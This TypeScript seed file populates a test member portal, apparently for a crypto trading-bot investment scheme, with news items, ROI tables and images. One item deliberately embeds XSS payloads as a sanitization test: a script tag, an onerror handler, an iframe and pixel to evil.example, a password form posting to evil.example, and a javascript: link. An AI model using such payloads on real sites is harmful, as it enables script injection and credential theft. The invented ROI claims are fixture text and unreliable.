import { news } from '../data/schema/catalogue';
import { ranks } from '../plan/ranks';
import { livePackages } from './catalogue';
import { files } from '../data/schema/service';
import { picture } from './picture';
import type { World } from './world';

interface Item {
  title: string;
  body: string;
  image?: string;
  days: number;
}

const paragraphs = (count: number, text: string) => `<p>${text}</p>`.repeat(count);

const highest = ranks.at(-1);

/** What the packages pay, as they are sold. */
const roiTable = `<table><thead><tr><th>Package</th><th>ROI a month</th></tr></thead><tbody>${livePackages
  .map(({ name, roiPercentage }) => `<tr><td>${name}</td><td>${Number(roiPercentage)}%</td></tr>`)
  .join('')}</tbody></table>`;

/** Newest first: short and long items, with lists, tables and images, and one that no portal may show unsanitized. */
export const newsItems: Item[] = [
  {
    title: 'Scheduled maintenance this Saturday',
    body: '<p>The platform will be unavailable on <strong>Saturday from 02:00 to 04:00 UTC</strong>. Running bots are not affected.</p><ul><li>Deposits you send during that time will appear afterwards.</li><li>Withdrawals you requested earlier are sent as usual.</li></ul>',
    days: 1,
  },
  {
    title: 'Live Select is open',
    body: '<p>You can now join <em>Live Select</em>, our package for larger live accounts. See <a href="https://example.com/live-select">the conditions</a>.</p>',
    image: 'news-live-select.png',
    days: 9,
  },
  {
    title: 'How to keep your account safe',
    body: '<h3>Three habits</h3><ol><li>Use an authenticator app.</li><li>Never share a code, not even with support.</li><li>Check the address before you withdraw.</li></ol>',
    days: 20,
  },
  {
    title: 'Withdrawals are sent twice a day',
    body: '<p>We check each withdrawal first, which usually takes two days. Those that pass are sent at noon and at midnight UTC.</p>',
    days: 27,
  },
  {
    title: 'Third-quarter results',
    body: `<p>Every live package paid its ROI each week of the quarter.</p>${roiTable}`,
    image: 'news-quarter.png',
    days: 41,
  },
  {
    title: 'Our terms, in full',
    body: `<p>We’ve rewritten our terms in plain language. What you agreed to hasn’t changed.</p>${['Packages', 'Bonuses', 'Withdrawals', 'Support'].map((head) => `<h3>${head}</h3>${paragraphs(4, 'A package runs for its term and then ends. We pay bonuses of bots to your Out going Wallet, and those of live packages to your Live or Pamm Wallet. If a withdrawal is rejected, we return the amount on hold.')}`).join('')}`,
    days: 52,
  },
  {
    title: `New rank: ${highest?.name}`,
    body: `<p>Members with ${highest?.pairs.toLocaleString('en')} matching pairs now reach <b>${highest?.name}</b>.</p>`,
    days: 75,
  },
  {
    title: 'Meet us in Lagos',
    body: '<p>Our regional meeting is at the Harbour Hall. Doors open at <b>10:00</b>. First come, first seated.</p>',
    image: 'news-lagos.png',
    days: 96,
  },
  {
    title: 'Invoices now show two numbers',
    body: '<p>Every invoice shows the package number and the activation number.</p>',
    days: 112,
  },
  {
    title: 'Deposit USDT on TRC20',
    body: '<p>You can now deposit USDT on <strong>TRC20</strong> as well as BEP20. Each network has its own address.</p>',
    image: 'news-trc20.png',
    days: 130,
  },
  {
    title: 'Second-quarter results',
    body: `<p>A calm quarter. Every live package paid its ROI each week.</p>${roiTable}`,
    image: 'news-quarter.png',
    days: 138,
  },
  {
    title: 'Support answers in five languages',
    body: '<p>English, French, Portuguese, Hindi and Arabic: <span dir="rtl" lang="ar">نجيب عليك بلغتك</span>.</p>',
    days: 151,
  },
  {
    title: 'What the portal leaves out of a message',
    body: '<p>Only these words remain.</p><script>document.title = "taken over"</script><img src=x onerror="document.title = \'taken over\'"><iframe src="https://evil.example"></iframe><img src="https://evil.example/pixel.gif"><form action="https://evil.example"><input name="password"></form><style>body { display: none }</style><p style="position: fixed; inset: 0">A veil</p><p><a href="javascript:document.title = 1">A link that leads nowhere</a></p>',
    days: 166,
  },
  {
    title: 'Authenticator apps are here',
    body: '<p>Confirm sign-ins and withdrawals with an app instead of an email. Set it up in <em>My Profile</em>.</p>',
    days: 180,
  },
  {
    title: 'What BEP20 and TRC20 mean',
    body: '<p>BEP20 is BNB Smart Chain, and TRC20 is Tron. Money sent on any other network is lost.</p><blockquote><p>Not sure? Send a small amount first.</p></blockquote>',
    days: 196,
  },
  ...['May', 'April', 'March', 'February', 'January'].map((month, index) => ({
    title: `Bot report for ${month}`,
    body: `<p>All bots traded without interruption in ${month}.</p>`,
    days: 205 + index * 30,
  })),
  {
    title: 'A year of matching',
    body: '<p>Our members matched more pairs than in any year before.</p><ul><li>Thank you for every one.</li></ul>',
    image: 'news-lagos.png',
    days: 330,
  },
  {
    title: 'Season’s greetings',
    body: '<p>Support may take a little longer to reply over the holidays.</p>',
    days: 337,
  },
  ...['December', 'November', 'October', 'September'].map((month, index) => ({
    title: `Bot report for ${month}`,
    body: `<p>All bots traded without interruption in ${month}.</p>`,
    days: 352 + index * 30,
  })),
  {
    title: 'Binary Tree on phones',
    body: '<p>You can now see your whole team on your phone.</p>',
    days: 460,
  },
  {
    title: 'A first look at the new member portal',
    body: '<p>Your wallets, team and payouts are now in one place, on any screen.</p>',
    days: 480,
  },
  {
    title: 'Welcome to the new member portal',
    body: '<p>Your wallets, team and payouts are now in one place, on any screen.</p>',
    days: 500,
  },
];

export const newsCount = newsItems.length;

/** Newest last, because ids grow with time. */
export function seedNews(world: World): void {
  const oldestFirst = newsItems.toReversed();
  const drawn = new Set<string>();
  oldestFirst.forEach(({ title, body, image, days }, index) => {
    const publishedAt = world.ago(days, 3);
    // One item is written but hidden (A §3: only shown items are displayed).
    const isShow = index === 0 ? 0 : 1;
    world.add(news, {
      id: index + 1,
      title,
      body,
      image: image ?? null,
      isShow,
      publishedAt,
      createdAt: publishedAt,
    });
    if (!image || drawn.has(image)) return;
    drawn.add(image);
    const bytes = picture(640, 360, [16 + index * 3, 42, 96], [20, 140 - index * 2, 150 + index]);
    world.add(files, { name: image, ownerId: null, type: 'image/png', bytes, createdAt: publishedAt });
  });
}
